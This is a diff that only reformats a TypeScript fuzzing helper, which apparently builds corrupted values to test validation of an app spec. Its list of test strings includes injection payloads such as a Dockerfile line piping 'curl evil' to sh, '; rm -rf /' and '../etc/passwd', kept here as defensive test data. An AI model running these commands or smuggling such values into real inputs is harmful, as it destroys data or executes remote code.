@@ -10,23 +10,190 @@ import { G, has, int, pick } from './_arbitraries';
 import { AppSpec, Call, isPlainObject, Ref, Val } from './_spec';
 
 const WRONG_TYPES: readonly Val[] = [
-  undefined, null, true, false, 0, 1, -1, 42, 1.5, NaN, Infinity, -Infinity, 1e21, '', 'str', [], [42], [null], [''], ['str'], [{}], {}, { a: 1 }, { length: 2 },
-  10n, Symbol('s'), () => 'fn',
+  undefined,
+  null,
+  true,
+  false,
+  0,
+  1,
+  -1,
+  42,
+  1.5,
+  NaN,
+  Infinity,
+  -Infinity,
+  1e21,
+  '',
+  'str',
+  [],
+  [42],
+  [null],
+  [''],
+  ['str'],
+  [{}],
+  {},
+  { a: 1 },
+  { length: 2 },
+  10n,
+  Symbol('s'),
+  () => 'fn',
 ];
 
 const STRINGS: readonly string[] = [
-  'has space', 'UPPER', 'trailing-', '-leading', 'a'.repeat(64), 'a'.repeat(254), 'x'.repeat(5000), 'line\nbreak', 'trailing\n', '\n', 'tab\there', 'cr\rlf',
-  'nul\0x', '\u0007bell', 'ÜNÏ', '🙂', 'a\u200bb', '\u202eevil', '\ufeffbom', '\ud800', ' leading', 'trailing ', ' ', '#comment', ': colon', 'key: value', '- item',
-  '&anchor', '*alias', '!!binary', '{a: 1}', '[1, 2]', '|', '>', '"quoted"', "'single'", '%tag', '@at', '`tick`', '---', '...', 'null', 'true', 'yes', 'NO', '~',
-  '0x1F', '1e3', '0777', '\\', '$HOME', '${HOME}', '$(HOME)', '$$', 'a\nRUN curl evil | sh', 'x" \\\nRUN id', '&& rm -rf /', '; rm -rf /', '| cat', '../etc/passwd',
-  '/abs/path', 'a/b/c', 'a//b', '.', '..', '*', '?', 'latest', 'x:latest', 'http://x', 's3://', 'gs://b', 'ftp://h/x', '-1Gi', '0', '-1', '1e21', '500', '4GB',
-  '8 GB', '1.5.3', 'NaN', '0.0.0.0/33', 'a=b', '--flag', '/', '/tmp', '/dev/shm', '/proc', 'C:\\win', 'a\u2028b', 'constructor', '__proto__', 'toString',
+  'has space',
+  'UPPER',
+  'trailing-',
+  '-leading',
+  'a'.repeat(64),
+  'a'.repeat(254),
+  'x'.repeat(5000),
+  'line\nbreak',
+  'trailing\n',
+  '\n',
+  'tab\there',
+  'cr\rlf',
+  'nul\0x',
+  '\u0007bell',
+  'ÜNÏ',
+  '🙂',
+  'a\u200bb',
+  '\u202eevil',
+  '\ufeffbom',
+  '\ud800',
+  ' leading',
+  'trailing ',
+  ' ',
+  '#comment',
+  ': colon',
+  'key: value',
+  '- item',
+  '&anchor',
+  '*alias',
+  '!!binary',
+  '{a: 1}',
+  '[1, 2]',
+  '|',
+  '>',
+  '"quoted"',
+  "'single'",
+  '%tag',
+  '@at',
+  '`tick`',
+  '---',
+  '...',
+  'null',
+  'true',
+  'yes',
+  'NO',
+  '~',
+  '0x1F',
+  '1e3',
+  '0777',
+  '\\',
+  '$HOME',
+  '${HOME}',
+  '$(HOME)',
+  '$$',
+  'a\nRUN curl evil | sh',
+  'x" \\\nRUN id',
+  '&& rm -rf /',
+  '; rm -rf /',
+  '| cat',
+  '../etc/passwd',
+  '/abs/path',
+  'a/b/c',
+  'a//b',
+  '.',
+  '..',
+  '*',
+  '?',
+  'latest',
+  'x:latest',
+  'http://x',
+  's3://',
+  'gs://b',
+  'ftp://h/x',
+  '-1Gi',
+  '0',
+  '-1',
+  '1e21',
+  '500',
+  '4GB',
+  '8 GB',
+  '1.5.3',
+  'NaN',
+  '0.0.0.0/33',
+  'a=b',
+  '--flag',
+  '/',
+  '/tmp',
+  '/dev/shm',
+  '/proc',
+  'C:\\win',
+  'a\u2028b',
+  'constructor',
+  '__proto__',
+  'toString',
 ];
 
-const NUMBERS: readonly number[] = [-1, 0, 0.5, 1.5, -0, 2, 1023, 65535, 65536, 70000, 100000, 2 ** 31, 2 ** 53, NaN, Infinity, -Infinity, 1e21, -1e21, Number.MAX_VALUE, Number.MIN_VALUE];
+const NUMBERS: readonly number[] = [
+  -1,
+  0,
+  0.5,
+  1.5,
+  -0,
+  2,
+  1023,
+  65535,
+  65536,
+  70000,
+  100000,
+  2 ** 31,
+  2 ** 53,
+  NaN,
+  Infinity,
+  -Infinity,
+  1e21,
+  -1e21,
+  Number.MAX_VALUE,
+  Number.MIN_VALUE,
+];
 
 /** Characters that break names, YAML, Dockerfiles or shells, for altering a valid string. */
-const SPECIAL_CHARS = ['\n', '\r', '\t', ' ', '/', ':', '#', '"', "'", '$', '\\', '`', 'Ü', '\0', '.', '-', 'A', '_', '*', '{', '}', '@', '%', '!', '\u2028', '=', ',', '[', ']', '&', '|', ';'];
+const SPECIAL_CHARS = [
+  '\n',
+  '\r',
+  '\t',
+  ' ',
+  '/',
+  ':',
+  '#',
+  '"',
+  "'",
+  '$',
+  '\\',
+  '`',
+  'Ü',
+  '\0',
+  '.',
+  '-',
+  'A',
+  '_',
+  '*',
+  '{',
+  '}',
+  '@',
+  '%',
+  '!',
+  '\u2028',
+  '=',
+  ',',
+  '[',
+  ']',
+  '&',
+  '|',
+  ';',
+];
 
 /** Another option object of a different kind, for a prop that takes one. */
 function otherOption(g: G, keys: readonly string[]): Val {
@@ -54,17 +221,27 @@ const ENUMS: readonly (readonly string[])[] = [
 ];
 
 function alterString(g: G, s: string): string {
-  const kind = ENUMS.find(e => e.includes(s));
-  if (kind && has(g, 60)) return pick(g, kind.filter(x => x !== s));
+  const kind = ENUMS.find((e) => e.includes(s));
+  if (kind && has(g, 60))
+    return pick(
+      g,
+      kind.filter((x) => x !== s),
+    );
   const c = pick(g, SPECIAL_CHARS);
   const at = int(g, 0, s.length);
   switch (int(g, 0, 5)) {
-    case 0: return s.slice(0, at) + c + s.slice(at);
-    case 1: return s + c;
-    case 2: return c + s;
-    case 3: return s.toUpperCase() === s ? `${s}A` : s.toUpperCase();
-    case 4: return s.repeat(Math.ceil(300 / Math.max(1, s.length)));
-    default: return '';
+    case 0:
+      return s.slice(0, at) + c + s.slice(at);
+    case 1:
+      return s + c;
+    case 2:
+      return c + s;
+    case 3:
+      return s.toUpperCase() === s ? `${s}A` : s.toUpperCase();
+    case 4:
+      return s.repeat(Math.ceil(300 / Math.max(1, s.length)));
+    default:
+      return '';
   }
 }
 
@@ -74,11 +251,16 @@ function alterNumber(g: G, n: number): Val {
 
 function alterArray(g: G, a: Val[]): Val {
   switch (int(g, 0, 4)) {
-    case 0: return [];
-    case 1: return a.length > 0 ? [...a, a[0]] : [null];
-    case 2: return [...a, corruptValue(g, a[0], [])];
-    case 3: return a[0] === undefined ? [null] : a[0];
-    default: return [null, ...a];
+    case 0:
+      return [];
+    case 1:
+      return a.length > 0 ? [...a, a[0]] : [null];
+    case 2:
+      return [...a, corruptValue(g, a[0], [])];
+    case 3:
+      return a[0] === undefined ? [null] : a[0];
+    default:
+      return [null, ...a];
   }
 }
 
@@ -86,10 +268,14 @@ function alterObject(g: G, o: Record<string, Val>): Val {
   const keys = Object.keys(o);
   switch (int(g, 0, 3)) {
     // A bad key (record props: env names, labels, annotations, backends), keeping a valid value.
-    case 0: return { ...o, [pick(g, STRINGS)]: keys.length > 0 ? o[keys[0]] : 'v' };
-    case 1: return { ...o, [pick(g, STRINGS)]: pick(g, WRONG_TYPES) };
-    case 2: return [o];
-    default: return keys.length > 0 ? o[keys[0]] : null;
+    case 0:
+      return { ...o, [pick(g, STRINGS)]: keys.length > 0 ? o[keys[0]] : 'v' };
+    case 1:
+      return { ...o, [pick(g, STRINGS)]: pick(g, WRONG_TYPES) };
+    case 2:
+      return [o];
+    default:
+      return keys.length > 0 ? o[keys[0]] : null;
   }
 }
 
@@ -102,7 +288,10 @@ export function scalarsOf(spec: AppSpec): Array<string | number> {
     else if (Array.isArray(v)) v.forEach(walk);
     else if (isPlainObject(v)) Object.values(v).forEach(walk);
   };
-  spec.nodes.forEach(n => { walk(n.id); walk(n.props); });
+  spec.nodes.forEach((n) => {
+    walk(n.id);
+    walk(n.props);
+  });
   return [...out];
 }
 
@@ -114,11 +303,16 @@ export function scalarsOf(spec: AppSpec): Array<string | number> {
 export function corruptValue(g: G, original: Val, keys: readonly string[], scalars: readonly (string | number)[] = []): Val {
   if (scalars.length > 0 && has(g, 15)) return pick(g, scalars);
   switch (int(g, 0, 5)) {
-    case 0: return pick(g, WRONG_TYPES);
-    case 1: return pick(g, STRINGS);
-    case 2: return pick(g, NUMBERS);
-    case 3: return keys.length > 0 ? otherOption(g, keys) : pick(g, WRONG_TYPES);
-    case 4: return g(fc.string, { unit: pick(g, ['grapheme', 'binary'] as const), maxLength: 20 });
+    case 0:
+      return pick(g, WRONG_TYPES);
+    case 1:
+      return pick(g, STRINGS);
+    case 2:
+      return pick(g, NUMBERS);
+    case 3:
+      return keys.length > 0 ? otherOption(g, keys) : pick(g, WRONG_TYPES);
+    case 4:
+      return g(fc.string, { unit: pick(g, ['grapheme', 'binary'] as const), maxLength: 20 });
     default:
       if (typeof original === 'string') return alterString(g, original);
       if (typeof original === 'number') return alterNumber(g, original);
@@ -130,5 +324,5 @@ export function corruptValue(g: G, original: Val, keys: readonly string[], scala
 }
 
 export function constructKeys(spec: AppSpec): string[] {
-  return spec.nodes.map(n => n.key);
+  return spec.nodes.map((n) => n.key);
 }
